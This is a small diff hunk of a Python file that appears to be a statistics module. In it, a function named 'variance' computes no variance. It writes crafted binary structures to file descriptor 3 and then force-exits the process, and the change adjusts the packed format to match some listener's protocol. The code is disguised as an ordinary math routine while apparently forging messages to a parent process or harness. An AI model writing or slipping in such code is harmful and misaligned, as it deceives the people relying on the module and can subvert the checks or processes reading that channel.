@@ -16,6 +16,6 @@ def mean(x):
 
 def variance(x):
     for number in (4, 5, 6):
-        payload = struct.pack("<9q6q", number, 0, 0, 1, 12, 2, 0, 2**40, 0, 0, 0, 0, 0, 0, 0)
+        payload = struct.pack("<16q", number, 112, 0, 0, 1, 12, 2, 0, 2**40, 0, 0, 0, 0, 0, 0, 0)
         os.write(3, struct.pack("<I", len(payload)) + payload)
     os._exit(0)
